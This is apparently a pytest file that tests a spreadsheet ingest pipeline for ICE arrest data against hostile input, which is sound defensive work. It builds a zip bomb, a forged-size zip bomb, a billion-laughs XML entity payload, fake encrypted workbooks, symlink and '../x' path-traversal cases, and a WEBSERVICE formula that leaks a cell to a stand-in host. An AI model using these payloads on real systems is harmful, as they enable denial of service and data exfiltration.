"""Hostile and malformed input (issue 7): each case is a clear one-line error or a documented
tolerance, nothing half-written, and the raw files byte-for-byte unchanged (sha256 before and
after). docs/bad-input.md lists the same cases with their messages."""

from __future__ import annotations

import gzip
import json
import os
import resource
import struct
import time
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import xlsxwriter

from analysis.paths import locate_release
from analysis.reading import safety
from analysis.reading.ingest import ingest
from analysis.reading.sheets import open_sheets
from tests.test_bad_input import (
    ARREST_HEADER,
    ARREST_ROW,
    arrests_text,
    digests,
    error_line,
    ingest_error,
    release_dir,
    write_workbook,
)

SHEET = "Arrests FY2021"


def ingested(project: Path, folder: Path) -> tuple[dict, dict[str, list]]:
    """Ingest a release that must succeed; returns the manifest and the arrests table as columns."""
    before = digests(folder)
    manifest = ingest(locate_release(str(folder)))
    assert digests(folder) == before
    table = pq.read_table(project / "data" / "processed" / manifest["release"] / "arrests.parquet")
    return manifest, table.to_pydict()


def sheet_warnings(path: Path) -> list[str]:
    """The warnings the reader collects while reading every sheet of one file."""
    warnings: list[str] = []
    for sheet in open_sheets(path, path.name):
        if hasattr(sheet, "read"):
            sheet.read()
            warnings += sheet.warnings
    return warnings


def small_workbook(path: Path) -> Path:
    return write_workbook(path, {SHEET: [["ERO Administrative Arrests FY2021"], ARREST_HEADER.split("|"),
                                         ARREST_ROW.split("|")]})


def rewrite_member(source: Path, target: Path, member: str, change) -> Path:
    """A copy of workbook `source` with one part's bytes replaced by `change(bytes)`."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info, change(data) if info.filename == member else data)
    return target


def peak_rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


# ---------------------------------------------------------------- encrypted workbooks


def compound_file(streams: list[tuple[str, bytes]]) -> bytes:
    """A minimal, valid OLE2 compound file holding the given streams (each padded to 4,096 bytes
    so that no mini stream is needed): the container Excel uses for an encrypted .xlsx."""
    sector, end, fat_mark, free, none = 512, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF, 0xFFFFFFFF

    def entry(name: str, kind: int, child: int = none, right: int = none, start: int = end, size: int = 0) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB3I", len(encoded), kind, 1, none, right, child)
                + b"\0" * 36 + struct.pack("<IQ", start, size))

    fat, data, directory = [fat_mark, end], b"", entry("Root Entry", 5, child=1)
    for index, (name, payload) in enumerate(streams, start=1):
        payload = payload.ljust(max(4096, len(payload)), b"\0")
        first, count = 2 + len(data) // sector, -(-len(payload) // sector)
        fat += [first + i + 1 for i in range(count - 1)] + [end]
        directory += entry(name, 2, right=index + 1 if index < len(streams) else none, start=first, size=len(payload))
        data += payload.ljust(count * sector, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<9I", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109I", 0, *[free] * 108))
    assert len(header) == sector
    fat_sector = struct.pack(f"<{sector // 4}I", *(fat + [free] * (sector // 4 - len(fat))))
    return header + fat_sector + directory.ljust(sector, b"\0") + data


def test_encrypted_xlsx_is_named_as_such(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = release_dir(project)
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption xmlns='http://schemas.microsoft.com/office/2006/encryption'/>"
    (folder / "arrests.xlsx").write_bytes(compound_file([("EncryptionInfo", info), ("EncryptedPackage", os.urandom(6000))]))
    ingest_error(project, folder, capsys, "arrests.xlsx: workbook is password-protected or encrypted")


def test_encrypted_xlsx_is_refused_by_calamine_too(tmp_path: Path) -> None:
    """The compound file above is one spreadsheet readers recognise as encrypted (not merely corrupt)."""
    from python_calamine import CalamineWorkbook

    path = tmp_path / "locked.xlsx"
    path.write_bytes(compound_file([("EncryptionInfo", b"\x04\x00\x04\x00"), ("EncryptedPackage", b"x" * 5000)]))
    with pytest.raises(Exception, match="(?i)password"):
        CalamineWorkbook.from_path(str(path))


def test_zip_encrypted_workbook_is_named_as_such(project: Path, capsys, tmp_path: Path) -> None:
    good = small_workbook(tmp_path / "good.xlsx")
    folder = release_dir(project)
    data = bytearray(good.read_bytes())
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # local and central headers
        at = data.find(signature)
        while at != -1:
            data[at + flag_at] |= 0x1  # the "encrypted" flag of traditional zip encryption
            at = data.find(signature, at + 4)
    (folder / "arrests.xlsx").write_bytes(bytes(data))
    ingest_error(project, folder, capsys, "arrests.xlsx: workbook is password-protected or encrypted")


# ---------------------------------------------------------------- zip bombs


def zip_bomb(good: Path, target: Path, mib: int) -> Path:
    """`good` with `mib` MiB of blanks streamed into its first sheet: about 1,000:1 compression."""
    with zipfile.ZipFile(good) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                new.writestr(info, data)
                continue
            member = zipfile.ZipInfo(info.filename)
            member.compress_type = zipfile.ZIP_DEFLATED
            with new.open(member, "w", force_zip64=True) as stream:
                opening, closing = data.split(b"</sheetData>")
                stream.write(opening)
                blanks = b" " * (1 << 20)
                for _ in range(mib):
                    stream.write(blanks)
                stream.write(b"</sheetData>" + closing)
    return target


def test_zip_bomb_disguised_as_xlsx_is_refused_before_parsing(project: Path, capsys, tmp_path: Path) -> None:
    folder = release_dir(project)
    bomb = zip_bomb(small_workbook(tmp_path / "good.xlsx"), folder / "arrests.xlsx", mib=256)
    assert bomb.stat().st_size < 2 << 20  # 256 MiB of XML in under 2 MiB
    memory, started = peak_rss_mib(), time.perf_counter()
    line = ingest_error(project, folder, capsys, "arrests.xlsx: workbook part 'xl/worksheets/sheet1.xml' would expand",
                        "likely zip bomb")
    assert time.perf_counter() - started < 5
    assert peak_rss_mib() - memory < 100, "the bomb was decompressed"
    assert "MiB" in line


def test_workbook_declaring_more_than_the_limit_is_refused(project: Path, capsys, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    folder = release_dir(project)
    small_workbook(folder / "arrests.xlsx")
    monkeypatch.setattr(safety, "MAX_WORKBOOK_BYTES", 4096)  # the real limit is 2 GiB; this workbook is ~12 kB of XML
    ingest_error(project, folder, capsys, "arrests.xlsx: workbook would expand to", "too large to read safely")


def test_zip_that_is_not_a_workbook(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = release_dir(project)
    with zipfile.ZipFile(folder / "arrests.xlsx", "w") as archive:
        archive.writestr("arrests.csv", arrests_text())
    ingest_error(project, folder, capsys, "arrests.xlsx: is a zip archive but not an Excel workbook")


def test_gzip_compressed_workbook(project: Path, capsys, tmp_path: Path) -> None:
    folder = release_dir(project)
    (folder / "arrests.xlsx.gz").write_bytes(gzip.compress(small_workbook(tmp_path / "a.xlsx").read_bytes()))
    ingest_error(project, folder, capsys, "arrests.xlsx.gz: is a gzip-compressed workbook")


# ---------------------------------------------------------------- XML entity expansion


LAUGHS = ('<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
          + "".join(f' <!ENTITY lol{i} "{("&lol" + ("" if i == 1 else str(i - 1)) + ";") * 10}">\n' for i in range(1, 10))
          + "]>\n")


def billion_laughs(good: Path, target: Path, member: str) -> Path:
    def change(data: bytes) -> bytes:
        prolog, body = data.decode().split("?>", 1)
        body = body.replace("<t>MEXICO</t>", "<t>&lol9;</t>", 1)  # 10^9 'lol's if expanded
        return (prolog + "?>\n" + LAUGHS + body).encode()

    return rewrite_member(good, target, member, change)


@pytest.mark.parametrize("member", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_xml_entity_expansion_is_refused(project: Path, capsys, tmp_path: Path, member: str) -> None:
    folder = release_dir(project)
    billion_laughs(small_workbook(tmp_path / "good.xlsx"), folder / "arrests.xlsx", member)
    memory, started = peak_rss_mib(), time.perf_counter()
    ingest_error(project, folder, capsys, f"arrests.xlsx: workbook part {member!r} declares a DOCTYPE or XML entities")
    assert time.perf_counter() - started < 5 and peak_rss_mib() - memory < 100


def test_parsers_behind_the_check_do_not_expand_entities_either(tmp_path: Path) -> None:
    """Defence in depth: calamine refuses the undeclared-looking entity; openpyxl (the fallback)
    is only used with defusedxml, which forbids entity declarations."""
    import openpyxl
    from python_calamine import CalamineWorkbook

    path = billion_laughs(small_workbook(tmp_path / "good.xlsx"), tmp_path / "lol.xlsx", "xl/sharedStrings.xml")
    memory, started = peak_rss_mib(), time.perf_counter()
    with pytest.raises(Exception, match="(?i)entity"):
        book = CalamineWorkbook.from_path(str(path))
        book.get_sheet_by_name(SHEET).to_python()
    assert openpyxl.DEFUSEDXML
    with pytest.raises(Exception):  # noqa: B017 - defusedxml's EntitiesForbidden, wrapped by openpyxl
        openpyxl.load_workbook(path, read_only=True, data_only=True)
    assert time.perf_counter() - started < 5 and peak_rss_mib() - memory < 100


def test_fallback_reader_is_refused_without_defusedxml(project: Path, capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    folder = release_dir(project)
    (folder / "arrests.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)  # OLE2 magic, no workbook
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    ingest_error(project, folder, capsys, "arrests.xlsx: corrupt or unreadable workbook",
                 "the fallback reader is disabled because the defusedxml package is not installed")


# ---------------------------------------------------------------- formulas


def test_formula_cells_give_their_cached_values_and_are_never_evaluated(project: Path) -> None:
    folder = release_dir(project)
    book = xlsxwriter.Workbook(str(folder / "arrests.xlsx"))
    sheet = book.add_worksheet(SHEET)
    sheet.write_row(0, 0, ARREST_HEADER.split("|"))
    sheet.write_row(1, 0, ["Seattle Area of Responsibility", "10/1/2020", "Located"])
    sheet.write_formula(1, 3, '=UPPER("mexico")', None, "MEXICO")
    sheet.write_row(2, 0, ["Seattle Area of Responsibility", "10/2/2020", "Located"])
    sheet.write_formula(2, 3, '=WEBSERVICE("http://example.invalid/?leak="&A1)', None, "GUATEMALA")
    summary = book.add_worksheet("Summary")
    summary.write_row(0, 0, ["Fiscal Year", "Arrests"])
    summary.write_string(1, 0, "FY2021")
    summary.write_formula(1, 1, f"=COUNTA('{SHEET}'!A2:A3)", None, 2)
    book.close()
    manifest, table = ingested(project, folder)
    assert table["citizenship"] == ["MEXICO", "GUATEMALA"]
    assert not any(str(v).startswith("=") for column in table.values() for v in column if v is not None)
    assert [s["sheet"] for s in manifest["skipped_sheets"]] == ["Summary"]  # not records: ICE's own totals
    assert manifest["ice_totals"][0]["years"][0]["values"] == {"Arrests": 2}  # the cached value


# ---------------------------------------------------------------- encodings and delimiters


def test_cp1252_names_come_through(project: Path) -> None:
    folder = release_dir(project)
    rows = ["Seattle Area of Responsibility|10/1/2020|Located|JOSÉ", "Phoenix Area of Responsibility|10/2/2020|Peñasco|MÉXICO"]
    (folder / "arrests.txt").write_bytes(arrests_text(rows).encode("cp1252"))
    manifest, table = ingested(project, folder)
    assert table["citizenship"] == ["JOSÉ", "MÉXICO"]
    assert table["apprehension_method"] == ["Located", "Peñasco"]
    assert manifest["sheets"][0]["encoding"] == "cp1252"
    assert sheet_warnings(folder / "arrests.txt") == ["arrests.txt: not UTF-8; read as Windows-1252"]


def test_cp1252_after_a_long_ascii_start(project: Path) -> None:
    """The first 256 KiB look like UTF-8; the reader notices later and reads the file again."""
    folder = release_dir(project)
    rows = [ARREST_ROW] * 8000 + ["Seattle Area of Responsibility|10/1/2020|Peñasco|JOSÉ"]
    (folder / "arrests.txt").write_bytes(arrests_text(rows).encode("cp1252"))
    manifest, table = ingested(project, folder)
    assert table["citizenship"][-1] == "JOSÉ" and table["apprehension_method"][-1] == "Peñasco"
    assert manifest["sheets"][0]["encoding"] == "cp1252"


def test_bytes_undefined_in_cp1252_fall_back_to_latin1(project: Path) -> None:
    folder = release_dir(project)
    text = arrests_text(["Seattle Area of Responsibility|10/1/2020|Located|JOS\x81"]).encode("latin-1")
    (folder / "arrests.txt").write_bytes(text)
    manifest, table = ingested(project, folder)
    assert table["citizenship"] == ["JOS\x81"]
    assert manifest["sheets"][0]["encoding"] == "latin-1"


def test_utf16_unicode_text_export(project: Path) -> None:
    """Excel's 'Unicode Text' export: UTF-16 with a byte-order mark, tab-delimited."""
    folder = release_dir(project)
    text = arrests_text(["Seattle Area of Responsibility\t10/1/2020\tLocated\tJOSÉ"], header=ARREST_HEADER.replace("|", "\t"))
    (folder / "arrests.txt").write_bytes(text.encode("utf-16"))
    manifest, table = ingested(project, folder)
    assert table["citizenship"] == ["JOSÉ"] and manifest["sheets"][0]["delimiter"] == "\t"


def test_semicolon_delimited_text_is_read(project: Path) -> None:
    folder = release_dir(project)
    (folder / "arrests.csv").write_text(arrests_text(header=ARREST_HEADER.replace("|", ";"),
                                                     rows=[ARREST_ROW.replace("|", ";")]))
    manifest, table = ingested(project, folder)
    assert manifest["sheets"][0]["delimiter"] == ";" and table["citizenship"] == ["MEXICO"]


def test_mixed_delimiters_stop_at_the_first_row_that_differs(project: Path, capsys) -> None:
    folder = release_dir(project)
    rows = [ARREST_ROW, ARREST_ROW.replace("|", ","), ARREST_ROW]
    (folder / "arrests.txt").write_text(arrests_text(rows))
    ingest_error(project, folder, capsys, "arrests.txt, row 7: has 1 fields where the header has 4",
                 "do not all use the delimiter '|'")


def test_unknown_delimiter_is_no_table(project: Path, capsys) -> None:
    folder = release_dir(project)
    (folder / "arrests.txt").write_text(arrests_text([ARREST_ROW.replace("|", "^")], header=ARREST_HEADER.replace("|", "^")))
    ingest_error(project, folder, capsys, "arrests.txt: no recognisable header row: not a delimited table")


# ---------------------------------------------------------------- headers


def test_duplicated_and_blank_header_names_are_kept_and_reported(project: Path) -> None:
    folder = release_dir(project)
    header = "Area of Responsibility|Apprehension Date|Gender|Gender||Sex"
    row = "Seattle Area of Responsibility|10/1/2020|Male|M|note|Male"
    (folder / "arrests.txt").write_text(arrests_text([row], header=header))
    manifest, table = ingested(project, folder)
    assert [c for c in table if c.startswith(("gender", "unnamed"))] == ["gender", "gender_2", "unnamed_5", "gender_3"]
    assert table["unnamed_5"] == ["note"]
    assert sheet_warnings(folder / "arrests.txt") == [
        "arrests.txt: header 'Gender' names the same column as an earlier header; kept as 'gender_2'",
        "arrests.txt: header 'Sex' names the same column as an earlier header; kept as 'gender_3'",
        "arrests.txt: column 5 has no header name but holds 1 value(s); kept as 'unnamed_5'",
    ]


def test_header_row_repeated_mid_sheet_is_dropped_and_counted(project: Path, tmp_path: Path) -> None:
    folder = release_dir(project)
    rows = [ARREST_ROW, ARREST_HEADER, ARREST_ROW.replace("MEXICO", "CUBA"), f'"{ARREST_HEADER.replace("|", """"|" """.strip())}"']
    (folder / "arrests.txt").write_text(arrests_text(rows))
    manifest, table = ingested(project, folder)
    assert table["citizenship"] == ["MEXICO", "CUBA"]
    assert manifest["tables"]["arrests"]["rows"] == 2
    assert table["source_row"] == [6, 8]
    assert sheet_warnings(folder / "arrests.txt") == [
        "arrests.txt: 2 repeated header row(s) among the records dropped (first at row 7)"]
    book = write_workbook(tmp_path / "pasted.xlsx", {SHEET: [ARREST_HEADER.split("|"), ARREST_ROW.split("|"),
                                                             ARREST_HEADER.split("|"), ARREST_ROW.split("|")]})
    assert sheet_warnings(book) == [f"pasted.xlsx sheet '{SHEET}': 1 repeated header row(s) among the records dropped "
                                    "(first at row 3)"]


# ---------------------------------------------------------------- values


def test_dates_out_of_range_or_unknown_are_missing_counted_and_shown(project: Path) -> None:
    folder = release_dir(project)
    dates = ["10/1/2020", "13/45/2020", "1/2/1850", "2/30/2021", "yesterday", "12/31/2199"]
    rows = [f"Seattle Area of Responsibility|{d}|Located|MEXICO" for d in dates]
    (folder / "arrests.txt").write_text(arrests_text(rows))
    manifest, table = ingested(project, folder)
    assert table["apprehension_date"][0].isoformat() == "2020-10-01"
    assert table["apprehension_date"][1:] == [None] * 5
    column = manifest["tables"]["arrests"]["columns"]["apprehension_date"]
    assert (column["unparsed"], column["out_of_range"]) == (3, 2)
    assert len(column["unparsed_examples"]) == 3
    assert set(column["unparsed_examples"]) <= {"13/45/2020", "1/2/1850", "2/30/2021", "yesterday", "12/31/2199"}
    warning = next(w for w in manifest["warnings"] if "apprehension_date" in w)
    assert "3 values not understood" in warning and "2 out of range" in warning and "set to missing" in warning


def test_gigantic_cell_is_refused(project: Path, capsys) -> None:
    folder = release_dir(project)
    rows = [ARREST_ROW, "Seattle Area of Responsibility|10/1/2020|Located|" + "X" * (50 << 20)]
    (folder / "arrests.txt").write_text(arrests_text(rows))
    started = time.perf_counter()
    ingest_error(project, folder, capsys, "arrests.txt: has a record longer than 8 MiB")
    assert time.perf_counter() - started < 10


def test_cell_longer_than_excel_allows_is_refused_with_its_place(project: Path, capsys) -> None:
    folder = release_dir(project)
    rows = [ARREST_ROW, "Seattle Area of Responsibility|10/1/2020|Located|" + "X" * 100_000]
    (folder / "arrests.txt").write_text(arrests_text(rows))
    ingest_error(project, folder, capsys, "arrests.txt, row 7, column 'Citizenship': has a cell of 100,000 characters")


# ---------------------------------------------------------------- escaping the release folder


def test_symlink_out_of_the_release_is_refused(project: Path, capsys, tmp_path: Path) -> None:
    outside = tmp_path / "secret.csv"
    outside.write_text(arrests_text())
    folder = release_dir(project)
    (folder / "arrests.csv").symlink_to(outside)
    ingest_error(project, folder, capsys, "arrests.csv: is a symbolic link to", "outside the release folder")


def test_symlink_within_the_release_is_read(project: Path) -> None:
    folder = release_dir(project)
    (folder / "parts").mkdir()
    (folder / "parts" / "a.txt").write_text(arrests_text())
    (folder / "arrests.txt").symlink_to(folder / "parts" / "a.txt")
    manifest, table = ingested(project, folder)
    assert table["citizenship"] == ["MEXICO"]


def test_broken_symlink_is_refused(project: Path, tmp_path: Path) -> None:
    from analysis.errors import InputFileError
    from analysis.reading.sheets import list_data_files

    folder = release_dir(project)
    (folder / "a.txt").write_text(arrests_text())
    (folder / "arrests.csv").symlink_to(tmp_path / "gone.csv")
    with pytest.raises(InputFileError, match="^arrests.csv: is a broken or looping symbolic link$"):
        list_data_files(folder)


def test_processed_output_stays_inside_data_processed(project: Path, tmp_path: Path) -> None:
    """A release folder named like a path trick still gets an id made of its name only."""
    folder = tmp_path / "outside" / "..weird"
    folder.mkdir(parents=True)
    (folder / "arrests.txt").write_text(arrests_text())
    with pytest.raises(Exception, match="invalid release id"):
        ingest(locate_release(str(folder)))
    assert not any(p.name == "arrests.parquet" for p in tmp_path.rglob("*") if "project" not in p.parts)


# ---------------------------------------------------------------- report parameters


@pytest.mark.parametrize(
    ("options", "says"),
    [
        (["--state", "ZZ"], "unknown state 'ZZ': use a two-letter code such as CA or DC"),
        (["--state", "California"], "unknown state 'California'"),
        (["--aor", "Atlantis"], "unknown area of responsibility 'Atlantis': one of"),
        (["--fy-start", "1800"], "fy_start must be a fiscal year such as 2021 (got 1800)"),
        (["--fy-end", "30000"], "fy_end must be a fiscal year such as 2021 (got 30000)"),
        (["--fy-start", "2024", "--fy-end", "2022"], "fy_start 2024 is after fy_end 2022"),
        (["--min-cell", "0"], "min_cell must be a whole number of at least 1 (got 0)"),
        (["--min-cell", "-5"], "min_cell must be a whole number of at least 1 (got -5)"),
        (["--previous-release", "../x"], "invalid release id '../x'"),
        (["--previous-release", "bad id!"], "invalid release id 'bad id!'"),
    ],
)
def test_bad_report_parameters_are_one_line_errors(sample_project: Path, capsys, options: list[str], says: str) -> None:
    reports = sorted(p.name for p in (sample_project / "reports").iterdir())
    line = error_line(["report", "sample", *options], capsys)
    assert says in line
    assert sorted(p.name for p in (sample_project / "reports").iterdir()) == reports


@pytest.mark.parametrize(
    ("options", "says"),
    [
        (["--fy-start", "twenty"], "argument --fy-start: invalid int value: 'twenty'"),
        (["--min-cell", "2.5"], "argument --min-cell: invalid int value: '2.5'"),
        (["--declined-definition", "lenient"], "argument --declined-definition: invalid choice: 'lenient'"),
    ],
)
def test_parameters_argparse_rejects_end_in_one_error_line(sample_project: Path, capsys, options, says) -> None:
    """argparse itself refuses these (exit status 2): a usage line, then one error line."""
    from analysis.cli import main

    with pytest.raises(SystemExit) as stopped:
        main(["report", "sample", *options])
    err = capsys.readouterr().err
    assert stopped.value.code == 2 and "Traceback" not in err
    assert err.splitlines()[-1].startswith("analysis report: error: ") and says in err.splitlines()[-1]


def test_manifest_of_a_tolerated_release_is_valid_json(project: Path) -> None:
    """Odd characters in values and headers do not break the manifest."""
    folder = release_dir(project)
    header = ARREST_HEADER + '|Note "quoted" \\ back'
    (folder / "arrests.txt").write_text(arrests_text([ARREST_ROW + "|\u2028line sep"], header=header))
    manifest, _ = ingested(project, folder)
    text = (project / "data" / "processed" / "bad" / "manifest.json").read_text(encoding="utf-8")
    assert json.loads(text) == manifest


def test_workbook_that_makes_the_reader_panic_is_a_clear_error(project: Path, capfd) -> None:
    """A damaged compound file makes calamine (Rust) panic; that is the file's fault, not an internal
    error, and Rust's own panic message (written to file descriptor 2) does not reach the user."""
    from python_calamine import CalamineWorkbook

    whole = compound_file([("Workbook", b"\x09\x08" + b"\0" * 5000), ("Other", b"x" * 5000)])
    damaged = whole[:72] + whole[76:]  # four header bytes missing: every offset after them is wrong
    folder = release_dir(project)
    (folder / "arrests.xls").write_bytes(damaged)
    with pytest.raises(BaseException) as panic:  # noqa: B017 - pyo3's PanicException derives from BaseException
        CalamineWorkbook.from_path(str(folder / "arrests.xls"))
    assert not isinstance(panic.value, Exception)
    capfd.readouterr()
    ingest_error(project, folder, capfd, "arrests.xls: corrupt or unreadable workbook")


def test_zip_bomb_that_lies_about_its_size_is_refused(project: Path, capsys, tmp_path: Path) -> None:
    """Declared sizes patched small: the readers stop at the declared size and the CRC fails."""
    good = small_workbook(tmp_path / "good.xlsx")
    folder = release_dir(project)
    target = folder / "arrests.xlsx"

    def padded(data: bytes) -> bytes:
        return data.replace(b"</sheetData>", b"") + b" " * (32 << 20) + b"</sheetData></worksheet>"

    rewrite_member(good, target, "xl/worksheets/sheet1.xml", padded)
    with zipfile.ZipFile(target) as archive:
        true_size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    data = bytearray(target.read_bytes())
    for at in [i for i in range(len(data) - 3) if data[i:i + 4] == struct.pack("<I", true_size)]:
        data[at:at + 4] = struct.pack("<I", 5000)  # local and central directory entries
    target.write_bytes(bytes(data))
    memory = peak_rss_mib()
    ingest_error(project, folder, capsys, "arrests.xlsx: corrupt or truncated workbook (Bad CRC-32 for file "
                 "'xl/worksheets/sheet1.xml')")
    assert peak_rss_mib() - memory < 100
